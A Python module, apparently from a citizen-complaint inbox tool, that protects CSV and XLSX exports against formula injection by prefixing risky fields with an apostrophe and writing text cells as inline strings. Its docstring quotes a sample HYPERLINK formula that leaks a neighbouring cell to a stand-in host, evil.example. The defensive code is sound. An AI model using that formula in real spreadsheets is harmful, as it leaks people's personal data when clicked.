"""Spreadsheet cells that stay text: the one place every XLSX and CSV writer passes text through.

Recaps and exports are opened in Excel (SOP step 5), and they carry citizens' words. A message
such as ``=HYPERLINK("http://evil.example/?leak="&B2,"Klik detail KTP")`` must reach the team
as the words the citizen wrote, never as a live formula that leaks a neighbouring cell when
clicked (CSV/formula injection).

- XLSX: every text cell is written as an inline string (``t="inlineStr"``), never as ``<f>``,
  whatever it begins with. openpyxl turns any string beginning with ``=`` into a formula, so
  text never goes to openpyxl as a bare value; it goes through :func:`xlsx_text_cell`.
- CSV has no cell types: Excel and LibreOffice evaluate a field that begins with ``=``, ``+``,
  ``-``, ``@``, a tab or a carriage return. Such a field gets a leading apostrophe (``'``), the
  usual neutralisation (OWASP "CSV Injection"); Excel shows the rest as text. Numbers are not
  strings and are written as they are, so ``-3`` stays a number.
"""
from __future__ import annotations

from typing import TYPE_CHECKING, Any
from xml.sax.saxutils import escape

from inbox.text import clean_text

if TYPE_CHECKING:
    from openpyxl.cell import WriteOnlyCell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: str) -> str:
    """``value`` for a CSV field: cleaned, and prefixed with ``'`` when a spreadsheet would
    evaluate it."""
    value = clean_text(value)
    return "'" + value if value.startswith(FORMULA_START) else value


def csv_value(value: Any) -> Any:
    """Any CSV field: texts neutralised by :func:`csv_text`, everything else unchanged."""
    return csv_text(value) if isinstance(value, str) else value


def xlsx_text_cell(ws: Any, value: str) -> WriteOnlyCell:
    """A write-only cell holding ``value`` (cleaned) as text, even when it begins with ``=``."""
    # Imported here: the CSV helpers above are used by ``aduan export`` and the web, which
    # must not load openpyxl (14 MB) into a process that stays up all day (issue 29).
    from openpyxl.cell import WriteOnlyCell
    cell = WriteOnlyCell(ws, value=clean_text(value))
    # openpyxl's value setter typed "=..." as a formula ('f'); 's' is written as an inline
    # string, so Excel shows the characters and evaluates nothing.
    cell.data_type = "s"
    return cell


def xlsx_cell(ws: Any, value: Any) -> Any:
    """A value for a write-only row: texts as :func:`xlsx_text_cell`, others unchanged."""
    return xlsx_text_cell(ws, value) if isinstance(value, str) else value


def xlsx_inline_string_xml(ref: str, value: str) -> str:
    """A SpreadsheetML ``<c>`` element holding ``value`` (cleaned, escaped) as text."""
    return (f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(clean_text(value))}'
            f"</t></is></c>")
